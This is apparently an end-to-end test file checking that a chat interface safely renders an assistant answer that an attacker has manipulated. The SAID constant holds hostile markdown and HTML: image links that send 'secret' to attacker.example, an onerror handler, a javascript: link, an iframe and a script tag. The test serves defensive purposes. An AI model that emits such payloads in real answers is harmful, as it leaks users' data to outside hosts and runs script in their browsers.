import { expect, test, world } from "#e2e/world.ts";

const ATTACKER = "attacker.example";
const SAID = [
  `![status](https://${ATTACKER}/p.png?d=secret) [![in a link](https://${ATTACKER}/q.png)](https://${ATTACKER}/?d=1)`,
  `![by reference][ref] <img src="https://${ATTACKER}/r.png" onerror="window.__hostile=1"> https://${ATTACKER}/bare`,
  `[Open the settings](https://${ATTACKER}/login?d=secret) [x](javascript:window.__hostile=1)`,
  `<iframe src="https://${ATTACKER}/frame"></iframe><script>window.__hostile=1</script>`,
  `[ref]: https://${ATTACKER}/s.png`,
].join("\n\n");

test("renders a manipulated model's answer without requests or scripts and shows link targets", async ({
  signedIn: page,
  api,
}) => {
  const { sessionId } = await (await api.post("/v2/agent/v1/session", { message: "What can you do?" })).json();
  const getChatStatus = async () => (await (await api.get(`/v1/chats/${sessionId}`)).json()).chat.status;
  await expect.poll(getChatStatus).toBe("idle");
  const requestedHosts: string[] = [];
  page.on("request", (request) => requestedHosts.push(new URL(request.url()).host));
  await page.route(`**/api/app/v1/chats/${sessionId}`, async (route) => {
    const response = await route.fetch();
    const chat = await response.json();
    for (const message of chat.messages) {
      if (message.role === "assistant") message.parts = [{ type: "text", text: SAID, state: "done" }];
    }
    await route.fulfill({ response, json: chat });
  });
  await page.goto(`/${world().demo.organization}/chat/${sessionId}`);
  const answer = page.getByRole("article", { name: "Clarion" });
  const link = answer.getByRole("link", { name: "Open the settings" });
  await expect(link).toContainText(`(${ATTACKER})`);
  await expect(link).toHaveAttribute("rel", /noopener.*noreferrer/);
  await link.hover();
  await expect(answer.getByRole("img")).toHaveCount(0);
  expect(await answer.locator("img, iframe, script, object, embed, form").count()).toBe(0);
  await expect(answer.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(answer).toContainText("<script>");
  expect(await page.evaluate(() => "__hostile" in window)).toBe(false);
  expect([...new Set(requestedHosts)]).toEqual([new URL(world().demo.url).host]);
});
